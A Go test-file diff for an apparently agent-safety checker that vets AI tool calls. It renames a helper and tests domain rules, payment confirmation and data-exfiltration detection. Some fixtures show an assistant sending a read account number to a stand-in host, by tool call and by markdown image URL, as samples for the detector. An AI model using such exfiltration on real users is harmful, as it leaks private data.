@@ -59,7 +59,7 @@ func TestHosts(t *testing.T) {
 		`{"hosts":["a.test"],"host":["a.test",{"x":"b.test"}]}`: {"a.test"},
 	} {
 		r := check(t, safety.Rules{Domains: []string{"ok.org", "https://listed.test/x", "://bare.test"}}, nil,
-			says(callvet.RoleAssistant, "", call("note", args, callvet.StatusOK)))
+			spoken(callvet.RoleAssistant, "", call("note", args, callvet.StatusOK)))
 		var got []string
 		for _, i := range r.Incidents {
 			if i.Rule == safety.RuleDomain {
@@ -73,7 +73,7 @@ func TestHosts(t *testing.T) {
 		}
 	}
 	if r := check(t, safety.Rules{Domains: []string{"*"}}, nil,
-		says(callvet.RoleAssistant, "", call("note", `{"q":"http://bad.test"}`, callvet.StatusOK))); len(
+		spoken(callvet.RoleAssistant, "", call("note", `{"q":"http://bad.test"}`, callvet.StatusOK))); len(
 		r.Incidents) != 0 {
 		t.Errorf("any host was allowed: %+v", r.Incidents)
 	}
@@ -105,7 +105,7 @@ func TestVersions(t *testing.T) {
 	} {
 		name, version := callvet.SplitTool(tool)
 		r := c.Check(nil,
-			&callvet.Trace{Turns: []callvet.Turn{says(callvet.RoleAssistant, "",
+			&callvet.Trace{Turns: []callvet.Turn{spoken(callvet.RoleAssistant, "",
 				callvet.Call{Tool: name, Version: version, Args: json.RawMessage(`{"q":"ana@example.com"}`)})}})
 		if got := len(r.Incidents) == 0; got != safe {
 			t.Errorf("%s in a conversation: safe %v", tool, got)
@@ -184,32 +184,32 @@ func TestKnown(t *testing.T) {
 func TestYes(t *testing.T) {
 	t.Parallel()
 	user, target := callvet.RoleUser, callvet.RoleAssistant
-	pay := says(target, "", call("pay", `{"amount":5}`, callvet.StatusOK))
+	pay := spoken(target, "", call("pay", `{"amount":5}`, callvet.StatusOK))
 	const asked, words = "pay needs the user's confirmation: no user was asked",
 		"pay needs the user's confirmation: the user's last words do not confirm it"
 	for name, c := range map[string]struct {
 		turns []callvet.Turn
 		want  string // the note
 	}{
-		"asked in the first turn": {[]callvet.Turn{says(target, "Shall I pay?"), says(user, "yes"), pay}, ""},
-		"a yes to nothing":        {[]callvet.Turn{says(user, "yes"), pay}, asked},
-		"a yes to white space":    {[]callvet.Turn{says(target, " \n"), says(user, "yes"), pay}, asked},
+		"asked in the first turn": {[]callvet.Turn{spoken(target, "Shall I pay?"), spoken(user, "yes"), pay}, ""},
+		"a yes to nothing":        {[]callvet.Turn{spoken(user, "yes"), pay}, asked},
+		"a yes to white space":    {[]callvet.Turn{spoken(target, " \n"), spoken(user, "yes"), pay}, asked},
 		"a yes to itself": {[]callvet.Turn{
-			says(target, "Shall I pay?"), says(user, "how much?"),
-			says(user, "yes"), pay,
+			spoken(target, "Shall I pay?"), spoken(user, "how much?"),
+			spoken(user, "yes"), pay,
 		}, asked},
 		"asked, then a call": {[]callvet.Turn{
-			says(target, "Shall I pay?"), says(target, "", gave(`1`)),
-			says(user, "yes"), pay,
+			spoken(target, "Shall I pay?"), spoken(target, "", gave(`1`)),
+			spoken(user, "yes"), pay,
 		}, ""},
-		"no words":             {[]callvet.Turn{says(target, "Shall I pay?"), says(user, "?!"), pay}, words},
-		"a yes after the call": {[]callvet.Turn{says(target, "Shall I pay?"), pay, says(user, "yes")}, asked},
+		"no words":             {[]callvet.Turn{spoken(target, "Shall I pay?"), spoken(user, "?!"), pay}, words},
+		"a yes after the call": {[]callvet.Turn{spoken(target, "Shall I pay?"), pay, spoken(user, "yes")}, asked},
 		"a yes of several words": {
-			[]callvet.Turn{says(target, "Shall I pay?"), says(user, "then go ahead"), pay},
+			[]callvet.Turn{spoken(target, "Shall I pay?"), spoken(user, "then go ahead"), pay},
 			"",
 		},
 		"words of a yes, not in line": {
-			[]callvet.Turn{says(target, "Shall I pay?"), says(user, "go right ahead"), pay},
+			[]callvet.Turn{spoken(target, "Shall I pay?"), spoken(user, "go right ahead"), pay},
 			words,
 		},
 	} {
@@ -254,11 +254,11 @@ func TestCarried(t *testing.T) {
 	} {
 		var turns []callvet.Turn
 		for _, r := range c.results {
-			turns = append(turns, says(callvet.RoleAssistant, "", gave(r)))
+			turns = append(turns, spoken(callvet.RoleAssistant, "", gave(r)))
 		}
 		args := fmt.Sprintf(`{"q":%q}`, c.address)
 		r := check(t, safety.Rules{}, nil,
-			append(turns, says(callvet.RoleAssistant, "", call("note", args, callvet.StatusOK)))...)
+			append(turns, spoken(callvet.RoleAssistant, "", call("note", args, callvet.StatusOK)))...)
 		var got string
 		for _, i := range r.Incidents {
 			_, got, _ = strings.Cut(i.Note, " carries ")
@@ -270,8 +270,8 @@ func TestCarried(t *testing.T) {
 	// The letters before :// belong to the address: with another of them it was not read.
 	for _, first := range []string{"a", "z", "A", "Z"} {
 		r := check(
-			t, safety.Rules{}, nil, says(callvet.RoleAssistant, "", gave(`"`+data+`"`)),
-			says(callvet.RoleAssistant, "", call("note", `{"q":"`+first+data+`"}`, callvet.StatusOK),
+			t, safety.Rules{}, nil, spoken(callvet.RoleAssistant, "", gave(`"`+data+`"`)),
+			spoken(callvet.RoleAssistant, "", call("note", `{"q":"`+first+data+`"}`, callvet.StatusOK),
 				call("note", `{"q":"1`+data+`"}`, callvet.StatusOK),
 				call("note", `{"q":"{`+data+`"}`, callvet.StatusOK)),
 		)
@@ -286,22 +286,22 @@ func TestOrderOfReading(t *testing.T) {
 	t.Parallel()
 	read := gave(`"account 55120934"`)
 	send := call("note", `{"q":"https://bad.test/?d=55120934"}`, callvet.StatusOK)
-	show := says(callvet.RoleAssistant, "![x](https://bad.test/?d=55120934)")
+	show := spoken(callvet.RoleAssistant, "![x](https://bad.test/?d=55120934)")
 	for name, c := range map[string]struct {
 		turns []callvet.Turn
 		want  []brief
 	}{
-		"with the call that read it": {[]callvet.Turn{says(callvet.RoleAssistant, "", read, send)}, nil},
+		"with the call that read it": {[]callvet.Turn{spoken(callvet.RoleAssistant, "", read, send)}, nil},
 		"in the next turn": {[]callvet.Turn{
-			says(callvet.RoleAssistant, "", read),
-			says(callvet.RoleAssistant, "", send),
+			spoken(callvet.RoleAssistant, "", read),
+			spoken(callvet.RoleAssistant, "", send),
 		}, []brief{{safety.RuleExfiltration, 1, true}}},
 		"shown before it was read": {[]callvet.Turn{
-			show, says(callvet.RoleAssistant, "", read),
-			says(callvet.RoleAssistant, "", send),
+			show, spoken(callvet.RoleAssistant, "", read),
+			spoken(callvet.RoleAssistant, "", send),
 		}, []brief{{safety.RuleExfiltration, 1, true}}},
 		"shown and sent": {
-			[]callvet.Turn{says(callvet.RoleAssistant, "", read), show, says(callvet.RoleAssistant, "", send)},
+			[]callvet.Turn{spoken(callvet.RoleAssistant, "", read), show, spoken(callvet.RoleAssistant, "", send)},
 			[]brief{{safety.RuleExfiltration, 1, true}, {safety.RuleExfiltration, -1, true}},
 		},
 	} {
